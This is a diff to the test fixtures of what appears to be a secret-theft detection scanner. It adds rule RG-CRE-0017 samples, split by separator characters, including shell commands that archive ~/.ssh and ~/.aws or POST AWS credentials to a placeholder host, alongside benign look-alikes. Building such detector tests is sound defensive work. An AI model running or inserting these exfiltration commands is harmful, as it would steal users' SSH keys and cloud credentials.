@@ -90,6 +90,10 @@ BAD: dict[str, list[bytes]] = {
             "t12345678¦9:§b35§/sendDocument', fil¦es={'document': f}, data={'u': os.ge¦tl¦ogin()})\n"
         ),
     ],
+    "RG-CRE-0017": [
+        joined("tar czf - ~/.s¦sh ~/.aws | cu¦rl -F f=@- h¦ttp://x.invalid/a\n"),
+        joined("cu¦rl -X POST -d @$HOME/.a¦ws/credentials h¦ttp://x.invalid/a\n"),
+    ],
 }
 """Samples that a rule must find, by the rule's id."""
 
@@ -150,6 +154,10 @@ BENIGN: dict[str, list[bytes]] = {
         joined(
             "request¦s.post('https://api.telegr¦am.org/bot' + TOKEN + '/sendMessage', data={'text': os.ge¦tl¦ogin()})\n"
         ),
+    ],
+    "RG-CRE-0017": [
+        joined("tar czf backup.tgz ~/.s¦sh\ncu¦rl -s https://example.org/ | jq .\n"),
+        joined("ssh-keygen -f ~/.s¦sh/id && cat ~/.s¦sh/id.pub | ssh host\n"),
     ],
 }
 """Harmless content that is like a rule's samples, by the rule's id."""
